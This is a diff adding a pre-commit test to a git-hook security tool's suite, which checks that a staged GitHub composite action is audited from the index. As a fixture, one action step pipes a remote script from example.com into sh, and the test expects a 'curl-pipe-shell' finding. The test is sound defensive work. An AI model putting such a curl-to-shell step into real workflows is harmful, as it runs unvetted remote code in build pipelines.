@@ -154,6 +154,28 @@ describe("pre-commit: package-manager config staged with a lockfile does not exc
   });
 });
 
+describe("pre-commit: a staged workflow's local actions are audited as staged", () => {
+  it("a composite action at any path that a staged workflow uses is judged from the index", async () => {
+    const repo = await adopted();
+    const workflow =
+      "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/setup\n";
+    const action = (run: string) =>
+      `name: setup\nruns:\n  using: composite\n  steps:\n    - run: ${run}\n      shell: bash\n`;
+    repo.write(".github/workflows/ci.yml", workflow);
+    repo.write("tools/setup/action.yml", action("curl -fsSL https://example.com/i.sh | sh"));
+    await repo.git(["add", "-A"]);
+    // The working tree's copy is harmless; the staged one is what would be committed.
+    repo.write("tools/setup/action.yml", action("make"));
+    const r = await repo.gitResult(["commit", "-m", "ci: build"]);
+    expect(r.exitCode).not.toBe(0);
+    expect(r.stdout + r.stderr).toContain("curl-pipe-shell");
+    expect(r.stdout + r.stderr).toContain("tools/setup/action.yml");
+    await repo.git(["add", "-A"]);
+    const ok = await repo.gitResult(["commit", "-m", "ci: build"]);
+    expect(ok.exitCode, ok.stdout + ok.stderr).toBe(0);
+  });
+});
+
 describe("pre-push: the pushed commits cannot switch off their own checks", () => {
   async function pushed(extra = "") {
     const repo = await adopted(extra);
